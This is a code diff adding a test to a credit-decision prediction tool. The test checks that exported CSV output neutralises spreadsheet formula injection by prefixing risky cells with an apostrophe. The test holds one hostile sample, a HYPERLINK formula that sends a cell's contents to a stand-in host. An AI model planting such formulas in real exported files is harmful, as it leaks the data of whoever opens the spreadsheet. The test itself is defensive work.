@@ -269,3 +269,18 @@ def test_the_catalog_says_of_data_sets_what_they_are(name):
         pytest.skip(f"{name} is not on this machine")
     data = entry.load()
     assert (data.name, len(data.y), data.license) == (name, entry.rows, entry.license)
+
+
+def test_no_text_in_the_decisions_is_a_formula(trained, tmp_path):
+    people = applicants(20, seed=6).drop(columns=["approved", "gender"])
+    attack = '=HYPERLINK("http://x"&A1)'
+    people = people.assign(**{"@note": [attack, "-5", "-", "+1-1", *["fine"] * 16], "debt": np.linspace(-9.5, 9.5, 20)})
+    people.to_csv(tmp_path / "new.csv", index=False)
+    people.to_parquet(tmp_path / "new.parquet")
+    for name in ("new.csv", "new.parquet"):
+        mamofair_says("predict", trained, tmp_path / name, "-o", tmp_path / "out.csv")
+        found = pd.read_csv(tmp_path / "out.csv", dtype="str", na_filter=False)
+        assert found["'@note"].tolist()[:5] == [f"'{attack}", "-5", "-", "'+1-1", "fine"]
+        assert found["debt"].astype(float).tolist() == people["debt"].tolist()
+        assert mamofair_says("predict", trained, tmp_path / name) == (tmp_path / "out.csv").read_text()
+    assert "apostrophe" in mamofair_says("predict", "--help")
